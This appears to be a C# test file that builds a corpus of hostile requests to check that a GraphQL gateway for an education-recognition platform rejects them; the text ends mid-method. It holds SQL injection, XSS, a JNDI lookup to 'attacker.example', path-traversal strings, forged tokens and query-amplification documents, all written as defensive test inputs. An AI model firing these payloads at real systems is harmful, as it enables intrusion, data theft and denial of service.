using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using NationalRecognition.Contracts.Common;
using NationalRecognition.Gateway.Tests.Api;
using NationalRecognition.Gateway.Tests.Security;
using NationalRecognition.Gateway.Tests.Support;
using NationalRecognition.GraphQLOverHttp.Tests.Support;

namespace NationalRecognition.Gateway.Tests.Hostile;

/// <summary>
/// The hostile corpus: what an attacker or a broken integrator sends, generated per category — bad text in every text
/// field of every mutation (oversize, NUL, unpaired surrogates), injection strings in every field that holds a code or
/// an id, broken IINs and BINs, dates and numbers out of range, wrong types, unknown fields, oversize batches, token
/// abuse, documents built to cost (amplification) and refusals at the HTTP level.
/// </summary>
public static class HostileCorpus
{
    private const string SurrogateMarker = "@@UNPAIRED-SURROGATE@@";

    private static readonly Lazy<Dictionary<string, HostileCase>> Cases = new(Build);

    public static IReadOnlyDictionary<string, HostileCase> All => Cases.Value;

    private enum Caller
    {
        Anonymous,
        Registrar,
        Head,
        Chair,
        Learner,
        Feed,
        Administrator,
    }

    /// <summary>One operation with valid variables, the caller who may run it, and its text fields by kind.</summary>
    private sealed record Operation(
        string Name,
        string Document,
        Caller Caller,
        Func<HostileFixture, JsonObject> Variables,
        string[] TextFields,
        (string Path, string Kind)[] PatternFields);

    // Injection strings for fields with a pattern; every one breaks every pattern of its kind.
    private static readonly string[] CodeInjections =
    [
        "' OR '1'='1", "1; DROP TABLE recognition_events; --", "../990840000347/main", "<script>alert(1)</script>",
        "${jndi:ldap://attacker.example/a}", "", " ", "{{7*7}}", "code\nsecond-line", "%2e%2e%2f",
    ];

    private static readonly string[] DigitInjections =
    [
        "' OR '1'='1", "99084000034", "9908400003470", "99084000034X", "990840000347\n", "９９０８４００００３４７", "", " 990840000347",
        "../990840000347", "-99084000034",
    ];

    private static readonly string[] KeyInjections = ["", " ", "key with spaces", "tab\tkey", new string('k', 201)];

    private static Dictionary<string, HostileCase> Build()
    {
        var cases = new List<HostileCase>();
        foreach (var operation in Operations())
        {
            BadText(operation, cases);
            Injections(operation, cases);
        }

        BrokenIdentities(cases);
        DatesAndNumbers(cases);
        WrongTypes(cases);
        UnknownFields(cases);
        OversizeBatches(cases);
        TokenAbuse(cases);
        Amplification(cases);
        HttpRefusals(cases);
        return cases.ToDictionary(c => c.Name, StringComparer.Ordinal);
    }

    // ---- Every text field of every mutation: oversize, NUL, unpaired surrogate.

    private static void BadText(Operation operation, List<HostileCase> cases)
    {
        foreach (var path in operation.TextFields.Concat(operation.PatternFields.Select(p => p.Path)))
        {
            cases.Add(Post($"text/{operation.Name}/{path}/60KB", operation, HttpStatusCode.BadRequest, "VALIDATION",
                variables => Set(variables, path, new string('A', 60 * 1024))));
            cases.Add(Post($"text/{operation.Name}/{path}/NUL", operation, HttpStatusCode.BadRequest, "INVALID_ENCODING",
                variables => Set(variables, path, "before\0after")));
            cases.Add(Post($"text/{operation.Name}/{path}/unpaired-surrogate", operation, HttpStatusCode.BadRequest, "INVALID_ENCODING",
                variables => Set(variables, path, SurrogateMarker)));
        }
    }

    // ---- Every field that holds a code or an id: injection strings.

    private static void Injections(Operation operation, List<HostileCase> cases)
    {
        foreach (var (path, kind) in operation.PatternFields)
        {
            var injections = kind switch
            {
                "digits" => DigitInjections,
                "key" => KeyInjections,
                "uuid" => CodeInjections.Append("00000000-0000-0000-0000-00000000000G").ToArray(),
                _ => CodeInjections,
            };
            for (var i = 0; i < injections.Length; i++)
            {
                var value = injections[i];
                cases.Add(Post($"injection/{operation.Name}/{path}/{i}", operation, HttpStatusCode.BadRequest, "VALIDATION",
                    variables => Set(variables, path, value)));
            }
        }
    }

    // ---- IINs and BINs that are not: in queries and arguments.

    private static void BrokenIdentities(List<HostileCase> cases)
    {
        string[] broken = ["", "99084000034", "9908400003471", "99O840000347", "990840000347 ", "٩٩٠٨٤٠٠٠٠٣٤٧"];
        for (var i = 0; i < broken.Length; i++)
        {
            var value = broken[i];
            cases.Add(Query($"identity/institution-bin/{i}", Caller.Anonymous, "query($bin: String!) { institution(bin: $bin) { bin } }",
                _ => new JsonObject { ["bin"] = value }, HttpStatusCode.BadRequest, "VALIDATION"));
            cases.Add(Query($"identity/learner-iin/{i}", Caller.Administrator, "query($iin: String!) { learner(iin: $iin) { iin } }",
                _ => new JsonObject { ["iin"] = value }, HttpStatusCode.BadRequest, "VALIDATION"));
            cases.Add(Query($"identity/audit-scope/{i}", Caller.Administrator,
                "query($scope: String!) { auditLog(scope: $scope, day: \"2026-01-01\") { edges { cursor } } }",
                _ => new JsonObject { ["scope"] = value }, HttpStatusCode.BadRequest, "VALIDATION"));
            cases.Add(Query($"identity/statistics-bin/{i}", Caller.Administrator,
                "query($bin: String) { nationalStatistics(filter: { institutionBin: $bin }) { sector } }",
                _ => new JsonObject { ["bin"] = value }, HttpStatusCode.BadRequest, "VALIDATION"));
            cases.Add(Query($"identity/literal-bin/{i}", Caller.Anonymous,
                $"{{ institution(bin: {JsonSerializer.Serialize(value)}) {{ bin }} }}", null, HttpStatusCode.BadRequest, "VALIDATION"));
        }

        // Twelve digits with a wrong check digit: the domain refuses them, with nothing stored.
        cases.Add(Post("identity/submit-iin-check-digit", SubmitOperation(), HttpStatusCode.OK, "FORBIDDEN",
            variables => Set(variables, "input.learnerIin", "030314601239")));
        cases.Add(Post("identity/register-bin-check-digit", RegisterOperation() with { Caller = Caller.Administrator }, HttpStatusCode.OK, "VALIDATION",
            variables => Set(variables, "bin", "990840000348")));

        string[] applicationIds = ["", "not-an-id", "12345", "../../etc/passwd", "00000000-0000-0000-0000", "' OR 1=1 --"];
        for (var i = 0; i < applicationIds.Length; i++)
        {
            var value = applicationIds[i];
            cases.Add(Query($"identity/application-id-staff/{i}", Caller.Chair, "query($id: ID!) { application(id: $id) { id } }",
                _ => new JsonObject { ["id"] = value }, HttpStatusCode.BadRequest, "VALIDATION"));
            cases.Add(Query($"identity/application-id-literal/{i}", Caller.Chair,
                $"{{ application(id: {JsonSerializer.Serialize(value)}) {{ id }} }}", null, HttpStatusCode.BadRequest, "VALIDATION"));
        }
    }

    // ---- Dates and numbers outside their meaning.

    private static void DatesAndNumbers(List<HostileCase> cases)
    {
        string[] years = ["0001-01-01", "9999-12-31", "1899-12-31"];
        (Operation Operation, string Path)[] dates =
        [
            (PeriodOperation(), "input.startDate"),
            (PeriodOperation(), "input.endDate"),
            (EstablishOperation(), "input.order.date"),
            (SubmitOperation(), "input.documents.0.certificate.issueDate"),
            (FeedCertificateOperation(), "input.issueDate"),
            (DecideOperation(), "input.protocol.date"),
        ];
        foreach (var (operation, path) in dates)
        {
            foreach (var year in years)
            {
                cases.Add(Post($"date/{operation.Name}/{path}/{year}", operation, HttpStatusCode.BadRequest, "VALIDATION",
                    variables => Set(variables, path, year)));
            }

            cases.Add(Post($"date/{operation.Name}/{path}/not-a-date", operation, HttpStatusCode.BadRequest, "VALIDATION",
                variables => Set(variables, path, "2025-02-30")));
        }

        cases.Add(Post("date/order-after-today", EstablishOperation(), HttpStatusCode.BadRequest, "VALIDATION",
            variables => Set(variables, "input.order.date", DateTime.UtcNow.AddDays(30).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture))));
        cases.Add(Post("date/certificate-issued-in-future", SubmitOperation(), HttpStatusCode.BadRequest, "VALIDATION",
            variables => Set(variables, "input.documents.0.certificate.issueDate", DateTime.UtcNow.AddYears(1).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture))));
        cases.Add(Query("date/audit-day-year-1", Caller.Administrator,
            "query($day: DateOnly!) { auditLog(scope: \"platform\", day: $day) { edges { cursor } } }",
            _ => new JsonObject { ["day"] = "0001-01-01" }, HttpStatusCode.BadRequest, "VALIDATION"));

        JsonNode huge = JsonNode.Parse("12345678901234567890123456789")!;
        JsonNode tooLargeForDecimal = JsonNode.Parse("1e40")!;
        (Operation Operation, string Path, JsonNode[] Values)[] numbers =
        [
            (ProgrammeOperation(), "input.units.0.credits", [huge, tooLargeForDecimal, -5, 301]),
            (ProgrammeOperation(), "input.units.0.qualificationLevel", [0, 9, -1]),
            (SubmitOperation(), "input.documents.0.certificate.appendix.0.credits", [huge, -1, 1000]),
            (SubmitOperation(), "input.documents.0.certificate.appendix.0.hours", [huge, -1, 1_000_000]),
            (SubmitOperation(), "input.documents.0.certificate.appendix.0.grade.value", [huge, -1]),
            (RegisterOperation(), "input.policy.maxRecognisedCreditsPerApplication", [-1, -0.5, huge]),
            (ComparisonOperation(), "input.documentIndex", [-1, 100]),
            (DecideOperation(), "input.decisions.0.credits", [-1, huge]),
            (FeedOperation(), "records.0.hours", [huge, -72]),
            (FeedOperation(), "records.0.credits", [huge, -1]),
            (PublishOperation(), "year", [0, 99_999, -2025]),
            (StartReviewOperation(), "expectedVersion", [-1]),
        ];
        foreach (var (operation, path, values) in numbers)
        {
            for (var i = 0; i < values.Length; i++)
            {
                var value = values[i];
                cases.Add(Post($"number/{operation.Name}/{path}/{i}", operation, HttpStatusCode.BadRequest, "VALIDATION",
                    variables => Set(variables, path, value.DeepClone())));
            }
        }
    }

    // ---- Values of the wrong type.

    private static void WrongTypes(List<HostileCase> cases)
    {
        (Operation Operation, string Path, JsonNode? Value)[] wrong =
        [
            (RegisterOperation(), "bin", 990840000347),
            (RegisterOperation(), "bin", true),
            (RegisterOperation(), "bin", new JsonArray("990840000347")),
            (RegisterOperation(), "bin", null),
            (RegisterOperation(), "input", "a string"),
            (RegisterOperation(), "input.region", "MARS"),
            (RegisterOperation(), "input.kinds", new JsonArray("UNIVERSITY_OF_EVERYTHING")),
            (RegisterOperation(), "input.names", new JsonArray()),
            (ProgrammeOperation(), "input.units.0.credits", "five"),
            (ProgrammeOperation(), "input.units.0.kind", 1),
            (ProgrammeOperation(), "input.units", new JsonObject()),
            (SubmitOperation(), "input.documents.0.certificate.issueDate", 20250620),
            (SubmitOperation(), "input.documents.0.certificate.appendix.0.grade.kind", "EXCELLENT"),
            (SubmitOperation(), "input.unitCodes", new JsonObject { ["0"] = "ML-3301" }),
            (ComparisonOperation(), "input.documentIndex", 1.5),
            (ComparisonOperation(), "input.contentMatches", "yes"),
            (StartReviewOperation(), "expectedVersion", "1"),
            (PublishOperation(), "year", "2025"),
            (FeedOperation(), "records", "not a list"),
            (FeedOperation(), "records.0.hours", "seventy-two"),
        ];
        for (var i = 0; i < wrong.Length; i++)
        {
            var (operation, path, value) = wrong[i];
            cases.Add(Post($"type/{operation.Name}/{path}/{i}", operation, HttpStatusCode.BadRequest, "VALIDATION",
                variables => Set(variables, path, value?.DeepClone())));
        }

        cases.Add(Query("type/literal-int-for-string", Caller.Anonymous, "{ institution(bin: 990840000347) { bin } }", null,
            HttpStatusCode.BadRequest, "VALIDATION"));
        cases.Add(Query("type/variable-declared-wrong", Caller.Anonymous, "query($bin: Int!) { institution(bin: $bin) { bin } }",
            _ => new JsonObject { ["bin"] = 1 }, HttpStatusCode.BadRequest, "VALIDATION"));
        cases.Add(Query("type/variable-missing", Caller.Anonymous, "query($bin: String!) { institution(bin: $bin) { bin } }",
            _ => new JsonObject(), HttpStatusCode.BadRequest, "VALIDATION"));
        cases.Add(Raw("type/variables-not-an-object", Caller.Anonymous,
            """{"query":"{ platform { name } }","variables":[1,2,3]}""", HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(Raw("type/query-not-a-string", Caller.Anonymous, """{"query":{"a":1}}""", HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(Raw("type/operation-name-number", Caller.Anonymous, """{"query":"{ platform { name } }","operationName":5}""",
            HttpStatusCode.BadRequest, "BAD_REQUEST"));
    }

    // ---- Fields, arguments, types and operations that do not exist.

    private static void UnknownFields(List<HostileCase> cases)
    {
        (string Name, string Document)[] documents =
        [
            ("selection", "{ platform { name secretKey } }"),
            ("root", "{ users { password } }"),
            ("argument", "{ platform(debug: true) { name } }"),
            ("type-condition", "{ platform { ... on Nothing { name } } }"),
            ("variable-type", "query($x: Nope) { platform { name } }"),
            ("directive", "{ platform @admin { name } }"),
            ("enum-literal", "{ nationalStatistics(groupBy: [PLANET]) { sector } }"),
            ("mutation-field", "mutation { dropEverything }"),
            ("typename-on-scalar", "{ platform { name { length } } }"),
            ("fragment", "{ platform { ...Missing } }"),
            ("unused-fragment", "fragment F on Platform { name } { platform { name } }"),
                    ];
        foreach (var (name, document) in documents)
        {
            cases.Add(Query($"unknown/{name}", Caller.Administrator, document, null, HttpStatusCode.BadRequest, "VALIDATION"));
        }

        (Operation Operation, string Path)[] inputs =
        [
            (RegisterOperation(), "input.names.klingon"),
            (RegisterOperation(), "input.isAdmin"),
            (SubmitOperation(), "input.status"),
            (SubmitOperation(), "input.documents.0.certificate.verified"),
            (ProgrammeOperation(), "input.units.0.owner"),
            (FeedOperation(), "records.0.approved"),
        ];
        foreach (var (operation, path) in inputs)
        {
            cases.Add(Post($"unknown/input/{operation.Name}/{path}", operation, HttpStatusCode.BadRequest, "VALIDATION",
                variables => Set(variables, path, "x")));
        }

        cases.Add(Raw("unknown/operation-name", Caller.Anonymous, """{"query":"query A { platform { name } }","operationName":"B"}""",
            HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(Raw("unknown/two-operations-no-name", Caller.Anonymous,
            """{"query":"query A { platform { name } } query B { platform { version } }"}""", HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(Raw("unknown/duplicate-operation", Caller.Anonymous, """{"query":"query A { platform { name } } query A { platform { version } }"}""",
            HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(Raw("unknown/no-query", Caller.Anonymous, """{"variables":{}}""", HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(Raw("unknown/empty-query", Caller.Anonymous, """{"query":"   "}""", HttpStatusCode.BadRequest, "BAD_REQUEST"));
    }

    // ---- Batches and lists larger than anyone needs.

    private static void OversizeBatches(List<HostileCase> cases)
    {
        cases.Add(Raw("batch/json-array", Caller.Anonymous, """[{"query":"{ platform { name } }"},{"query":"{ platform { name } }"}]""",
            HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(Raw("batch/json-array-of-mutations", Caller.Learner,
            "[" + string.Join(',', Enumerable.Repeat("""{"query":"mutation { withdrawApplication(applicationId: \"x\", reason: \"r\") { id } }"}""", 50)) + "]",
            HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(Post("batch/feed-6000-records-over-1MiB", FeedOperation(), HttpStatusCode.RequestEntityTooLarge, "PAYLOAD_TOO_LARGE",
            variables => variables["records"] = new JsonArray([.. Enumerable.Range(0, 6_000).Select(i => FeedRecord($"N-{i}"))])));
        cases.Add(Post("batch/feed-1001-small-records", FeedOperation(), HttpStatusCode.BadRequest, "VALIDATION",
            variables => variables["records"] = new JsonArray([.. Enumerable.Range(0, 1_001).Select(_ => (JsonNode)new JsonObject())])));
        cases.Add(Post("batch/unit-codes-51", SubmitOperation(), HttpStatusCode.BadRequest, "VALIDATION",
            variables => Set(variables, "input.unitCodes", new JsonArray([.. Enumerable.Range(0, 51).Select(i => (JsonNode)$"U-{i}")]))));
        cases.Add(Post("batch/documents-11", SubmitOperation(), HttpStatusCode.BadRequest, "VALIDATION",
            variables => Set(variables, "input.documents", new JsonArray([.. Enumerable.Range(0, 11).Select(_ => (JsonNode)new JsonObject { ["registryKey"] = "x" })]))));
        cases.Add(Post("batch/professions-2001", PublishOperation(), HttpStatusCode.BadRequest, "VALIDATION",
            variables => variables["professions"] = new JsonArray([.. Enumerable.Range(0, 2_001).Select(i => (JsonNode)new JsonObject { ["code"] = $"P{i}", ["nameKk"] = "k", ["nameRu"] = "r" })])));
        cases.Add(Post("batch/members-51", EstablishOperation(), HttpStatusCode.BadRequest, "VALIDATION",
            variables => Set(variables, "input.members", new JsonArray([.. Enumerable.Range(0, 51).Select(i => (JsonNode)new JsonObject { ["name"] = $"M {i}", ["position"] = "p", ["role"] = "MEMBER" })]))));
        cases.Add(Post("batch/units-201", ProgrammeOperation(), HttpStatusCode.BadRequest, "VALIDATION",
            variables => Set(variables, "input.units", new JsonArray([.. Enumerable.Range(0, 201).Select(i => (JsonNode)new JsonObject
            {
                ["code"] = $"U{i}", ["name"] = "n", ["kind"] = "DISCIPLINE", ["credits"] = 1, ["objectives"] = new JsonArray(), ["outcomes"] = new JsonArray(),
            })]))));
        cases.Add(Raw("batch/body-over-100KiB", Caller.Learner,
            JsonSerializer.Serialize(new { query = "{ platform { name } }", variables = new { padding = new string('p', 110 * 1024) } }),
            HttpStatusCode.RequestEntityTooLarge, "PAYLOAD_TOO_LARGE"));
        cases.Add(Raw("batch/body-over-1MiB-feed", Caller.Feed,
            JsonSerializer.Serialize(new { query = "{ platform { name } }", variables = new { padding = new string('p', 1_100 * 1024) } }),
            HttpStatusCode.RequestEntityTooLarge, "PAYLOAD_TOO_LARGE"));
    }

    // ---- Tokens: none, garbage, alg none, expired, another key, another tenant.

    private static void TokenAbuse(List<HostileCase> cases)
    {
        var key = Convert.FromBase64String(SecureHost.TestKey);
        (string Name, Func<HostileFixture, string> Token)[] invalid =
        [
            ("garbage", _ => "garbage"),
            ("three-dots", _ => "a.b.c"),
            ("alg-none", _ => AlgNone()),
            ("expired", _ => Tokens.Expired()),
            ("another-key", _ => Tokens.Custom("national-recognition-local", "national-recognition", key: [.. key.Select(b => (byte)(b ^ 0x5A))])),
            ("another-issuer", _ => Tokens.Custom("https://attacker.example", "national-recognition")),
            ("another-audience", _ => Tokens.Custom("national-recognition-local", "someone-else")),
            ("tampered-role", _ => Tokens.Tampered()),
            ("role-system", _ => Tokens.Custom("national-recognition-local", "national-recognition",
                claims: new Dictionary<string, object> { ["sub"] = "x", ["role"] = "System" })),
            ("learner-without-iin", _ => Tokens.Custom("national-recognition-local", "national-recognition",
                claims: new Dictionary<string, object> { ["sub"] = "x", ["role"] = "Learner" })),
            ("staff-bad-bin", _ => Tokens.Custom("national-recognition-local", "national-recognition",
                claims: new Dictionary<string, object> { ["sub"] = "x", ["role"] = "Registrar", ["bin"] = "../990840000347" })),
            ("oversized", _ => new string('a', 20_000)),
        ];
        foreach (var operation in new[] { SubmitOperation(), StartReviewOperation(), RegisterOperation(), FeedOperation() })
        {
            foreach (var (name, token) in invalid)
            {
                cases.Add(new HostileCase($"token/{name}/{operation.Name}", fixture =>
                {
                    var request = PostRequest(operation.Document, operation.Variables(fixture), null, fixture);
                    request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", token(fixture));
                    return request;
                }, HttpStatusCode.Unauthorized, "UNAUTHENTICATED"));
            }

            cases.Add(Post($"token/none/{operation.Name}", operation with { Caller = Caller.Anonymous }, HttpStatusCode.OK, "UNAUTHENTICATED", _ => { }));
        }

        // Another tenant: valid tokens of the wrong institution or learner.
        cases.Add(Post("tenant/other-registrar-sets-period", PeriodOperation() with { Caller = Caller.Registrar }, HttpStatusCode.OK, "FORBIDDEN",
            _ => { }, otherTenant: true));
        cases.Add(Post("tenant/other-registrar-upserts-programme", ProgrammeOperation(), HttpStatusCode.OK, "FORBIDDEN", _ => { }, otherTenant: true));
        cases.Add(Post("tenant/other-head-reconstitutes", ReconstituteOperation(), HttpStatusCode.OK, "FORBIDDEN", _ => { }, otherTenant: true));
        cases.Add(Post("tenant/other-chair-starts-review", StartReviewOperation(), HttpStatusCode.OK, "FORBIDDEN", _ => { }, otherTenant: true));
        cases.Add(Post("tenant/other-chair-compares", ComparisonOperation(), HttpStatusCode.OK, "FORBIDDEN", _ => { }, otherTenant: true));
        cases.Add(Post("tenant/other-chair-decides", DecideOperation(), HttpStatusCode.OK, "FORBIDDEN", _ => { }, otherTenant: true));
        cases.Add(Post("tenant/other-learner-withdraws", WithdrawOperation(), HttpStatusCode.OK, "FORBIDDEN", _ => { }, otherTenant: true));
        cases.Add(Post("tenant/other-learner-submits-for-someone", SubmitOperation(), HttpStatusCode.OK, "FORBIDDEN", _ => { }, otherTenant: true));
        cases.Add(Query("tenant/other-chair-reads-application", Caller.Chair, "query($id: ID!) { application(id: $id) { id learnerIin } }",
            f => new JsonObject { ["id"] = f.ApplicationId }, HttpStatusCode.OK, "FORBIDDEN", otherTenant: true));
        cases.Add(Query("tenant/other-learner-reads-application", Caller.Learner, "query($id: ID!) { application(id: $id) { id learnerIin } }",
            f => new JsonObject { ["id"] = f.ApplicationId }, HttpStatusCode.OK, "FORBIDDEN", otherTenant: true));
        cases.Add(Query("tenant/other-learner-lists-applications", Caller.Learner, "query($iin: String!) { learner(iin: $iin) { applications { totalCount } } }",
            f => new JsonObject { ["iin"] = f.LearnerIin }, HttpStatusCode.OK, "FORBIDDEN", otherTenant: true));
        cases.Add(Query("tenant/anonymous-reads-application", Caller.Anonymous, "query($id: ID!) { application(id: $id) { id learnerIin } }",
            f => new JsonObject { ["id"] = f.ApplicationId }, HttpStatusCode.OK, "UNAUTHENTICATED"));
        cases.Add(Query("tenant/feed-reads-application", Caller.Feed, "query($id: ID!) { application(id: $id) { id learnerIin } }",
            f => new JsonObject { ["id"] = f.ApplicationId }, HttpStatusCode.OK, "FORBIDDEN"));
    }

    // ---- Cheap documents built to cost minutes: each must be refused at once, briefly.

    private static void Amplification(List<HostileCase> cases)
    {
        var aliases = "{ " + string.Join(' ', Enumerable.Range(0, 2_000).Select(i => $"a{i}: institution(bin: \"{990840000347 + (i % 7)}\") {{ bin }}")) + " }";
        Add("aliases-2000-conflicting-arguments", aliases[..Math.Min(aliases.Length, 60_000)], "TOO_LARGE");
        Add("aliases-60", "{ " + string.Join(' ', Enumerable.Range(0, 60).Select(i => $"a{i}: platform {{ name }}")) + " }", "TOO_COMPLEX");
        Add("schema-aliases-1500", "{ " + string.Join(' ', Enumerable.Range(0, 1_500).Select(i => $"s{i}: __schema {{ types {{ name }} }}")) + " }", "TOO_LARGE");
        Add("schema-aliases-40", "{ " + string.Join(' ', Enumerable.Range(0, 40).Select(i => $"s{i}: __schema {{ types {{ name }} }}")) + " }", "TOO_COMPLEX");
        Add("fragment-chain-2000", "{ platform { ...F0 } } " + string.Join(' ', Enumerable.Range(0, 2_000).Select(i =>
            i < 1_999 ? $"fragment F{i} on Platform {{ name ...F{i + 1} }}" : $"fragment F{i} on Platform {{ name }}")), "TOO_LARGE");
        Add("fragment-chain-30", "{ platform { ...F0 } } " + string.Join(' ', Enumerable.Range(0, 30).Select(i =>
            i < 29 ? $"fragment F{i} on Platform {{ name ...F{i + 1} }}" : $"fragment F{i} on Platform {{ name }}")), "TOO_COMPLEX");
        Add("fragment-doubling-20", "{ platform { ...D0 } } " + string.Join(' ', Enumerable.Range(0, 20).Select(i =>
            i < 19 ? $"fragment D{i} on Platform {{ ...D{i + 1} ...D{i + 1} }}" : $"fragment D{i} on Platform {{ name version }}")), "TOO_COMPLEX");
        Add("fragment-wide-doubling", "{ platform { ...W0 ...W0 ...W0 ...W0 } } " + string.Join(' ', Enumerable.Range(0, 6).Select(i =>
            i < 5 ? $"fragment W{i} on Platform {{ ...W{i + 1} ...W{i + 1} ...W{i + 1} ...W{i + 1} }}" : $"fragment W{i} on Platform {{ name version }}")), "TOO_COMPLEX");
        Add("fragment-cycle", "{ platform { ...A } } fragment A on Platform { name ...B } fragment B on Platform { version ...A }", "VALIDATION");
        Add("fragment-self", "{ platform { ...A } } fragment A on Platform { name ...A }", "VALIDATION");
        Add("nesting-100", new string('{', 1) + string.Concat(Enumerable.Repeat("platform { ", 100)) + "name" + new string('}', 101), "TOO_COMPLEX");
        Add("nesting-61-selection-sets", "{ __schema { queryType { " + string.Concat(Enumerable.Repeat("ofType { ", 61)) + "name" + new string('}', 64), "TOO_COMPLEX");
        Add("nesting-40-selection-sets", "{ __schema { queryType { " + string.Concat(Enumerable.Repeat("ofType { ", 40)) + "name" + new string('}', 43), "TOO_COMPLEX");
        Add("nesting-list-literal", "{ institution(bin: " + new string('[', 500) + "\"x\"" + new string(']', 500) + ") { bin } }", "TOO_COMPLEX");
        Add("nesting-object-literal-deep", "{ nationalStatistics(filter: " + string.Concat(Enumerable.Repeat("{ a: ", 150)) + "1" + new string('}', 150) + ") { sector } }", "TOO_COMPLEX");
        Add("document-over-16KiB", "{ platform { name } }" + new string(' ', 20_000), "TOO_LARGE");
        Add("comment-padding", "# " + new string('x', 17_000) + "\n{ platform { name } }", "TOO_LARGE");
        Add("tokens-2001", "{ platform { " + string.Join(' ', Enumerable.Repeat("name", 2_001)) + " } }", "TOO_LARGE");
        Add("directives-1000", "{ platform { name " + string.Concat(Enumerable.Repeat("@skip(if: false) ", 1_000)) + "} }", "TOO_LARGE");
        Add("fields-1001-repeated", "{ platform { " + string.Join(' ', Enumerable.Repeat("name", 1_001)) + " } }", "TOO_COMPLEX");
        Add("introspection-deep", "{ __schema { types { " + string.Concat(Enumerable.Repeat("fields { type { ", 10)) + "name" + new string('}', 22) + " }", "TOO_COMPLEX");
        Add("subscription", "subscription { platform { name } }", "NOT_SUPPORTED");
        Add("subscription-named", "subscription Watch { applicationChanged { id } }", "NOT_SUPPORTED");
        Add("list-complexity", "{ " + string.Join(' ', Enumerable.Range(0, 12).Select(i =>
            $"l{i}: auditLog(scope: \"platform\", day: \"2026-01-{i + 1:00}\", first: 100) {{ edges {{ node {{ sequence action detail subjectId }} }} }}")) + " }",
            "TOO_COMPLEX", Caller.Administrator);
        Add("variables-many", "query(" + string.Join(' ', Enumerable.Range(0, 700).Select(i => $"$v{i}: String")) + ") { platform { name } }", "TOO_LARGE");

        void Add(string name, string document, string code, Caller caller = Caller.Anonymous) =>
            cases.Add(new HostileCase($"amplification/{name}", fixture => PostRequest(document, null, caller, fixture),
                HttpStatusCode.BadRequest, code, Amplification: true));
    }

    // ---- Refusals before GraphQL: every one with a JSON body and a code.

    private static void HttpRefusals(List<HostileCase> cases)
    {
        cases.Add(new HostileCase("http/unknown-path", _ => new HttpRequestMessage(HttpMethod.Get, "/admin/.env"), HttpStatusCode.NotFound, "NOT_FOUND"));
        cases.Add(new HostileCase("http/path-traversal", _ => new HttpRequestMessage(HttpMethod.Get, "/graphiql/..%2f..%2fappsettings.json"), HttpStatusCode.NotFound, "NOT_FOUND"));
        cases.Add(new HostileCase("http/put", _ => new HttpRequestMessage(HttpMethod.Put, "/graphql") { Content = Json("{}") }, HttpStatusCode.MethodNotAllowed, "METHOD_NOT_ALLOWED"));
        cases.Add(new HostileCase("http/delete", _ => new HttpRequestMessage(HttpMethod.Delete, "/graphql"), HttpStatusCode.MethodNotAllowed, "METHOD_NOT_ALLOWED"));
        cases.Add(new HostileCase("http/post-to-csv-export", _ => new HttpRequestMessage(HttpMethod.Post, "/statistics.csv") { Content = Json("{}") }, HttpStatusCode.MethodNotAllowed, "METHOD_NOT_ALLOWED"));
        cases.Add(new HostileCase("http/get-mutation", _ => new HttpRequestMessage(HttpMethod.Get,
            "/graphql?query=" + Uri.EscapeDataString("mutation { withdrawApplication(applicationId: \"x\", reason: \"r\") { id } }")), HttpStatusCode.MethodNotAllowed, "METHOD_NOT_ALLOWED"));
        cases.Add(new HostileCase("http/get-subscription", _ => new HttpRequestMessage(HttpMethod.Get,
            "/graphql?query=" + Uri.EscapeDataString("subscription { platform { name } }")), HttpStatusCode.OK, "NOT_SUPPORTED"));
        cases.Add(new HostileCase("http/text-plain", _ => new HttpRequestMessage(HttpMethod.Post, "/graphql")
        {
            Content = new StringContent("{ platform { name } }", Encoding.UTF8, "text/plain"),
        }, HttpStatusCode.UnsupportedMediaType, "UNSUPPORTED_MEDIA_TYPE"));
        cases.Add(new HostileCase("http/form", _ => new HttpRequestMessage(HttpMethod.Post, "/graphql")
        {
            Content = new FormUrlEncodedContent([new("query", "{ platform { name } }")]),
        }, HttpStatusCode.UnsupportedMediaType, "UNSUPPORTED_MEDIA_TYPE"));
        cases.Add(new HostileCase("http/stream-wrong-type", fixture =>
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "/feed/certificates") { Content = Json("{}") };
            fixture.As(ActorRole.ExchangeFeed).Authenticate(request);
            return request;
        }, HttpStatusCode.UnsupportedMediaType, "UNSUPPORTED_MEDIA_TYPE"));
        cases.Add(new HostileCase("http/stream-anonymous", _ => new HttpRequestMessage(HttpMethod.Post, "/feed/certificates")
        {
            Content = new StringContent("{}\n", Encoding.UTF8, "application/x-ndjson"),
        }, HttpStatusCode.Unauthorized, "UNAUTHENTICATED"));
        cases.Add(new HostileCase("http/stream-learner", fixture =>
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "/feed/certificates") { Content = new StringContent("{}\n", Encoding.UTF8, "application/x-ndjson") };
            fixture.As(ActorRole.Learner, iin: fixture.LearnerIin).Authenticate(request);
            return request;
        }, HttpStatusCode.Forbidden, "FORBIDDEN"));
        cases.Add(new HostileCase("http/query-string-over-limit", _ => new HttpRequestMessage(HttpMethod.Get,
            "/graphql?query=" + Uri.EscapeDataString("{ platform { name } }") + "&pad=" + new string('p', 9_000)), HttpStatusCode.RequestUriTooLong, "URI_TOO_LONG"));
        cases.Add(new HostileCase("http/target-over-limit", _ => new HttpRequestMessage(HttpMethod.Get, "/" + new string('a', 13_000)),
            HttpStatusCode.RequestUriTooLong, "URI_TOO_LONG"));
        cases.Add(new HostileCase("http/headers-over-limit", _ =>
        {
            var request = new HttpRequestMessage(HttpMethod.Get, "/graphql?query=%7B%20platform%20%7B%20name%20%7D%20%7D");
            request.Headers.TryAddWithoutValidation("X-Padding", new string('h', 33 * 1024));
            return request;
        }, HttpStatusCode.RequestHeaderFieldsTooLarge, "HEADERS_TOO_LARGE"));
        cases.Add(new HostileCase("http/not-acceptable", _ =>
        {
            var request = PostRequest("{ platform { name } }", null, null, null);
            request.Headers.Accept.Clear();
            request.Headers.TryAddWithoutValidation("Accept", "text/csv");
            return request;
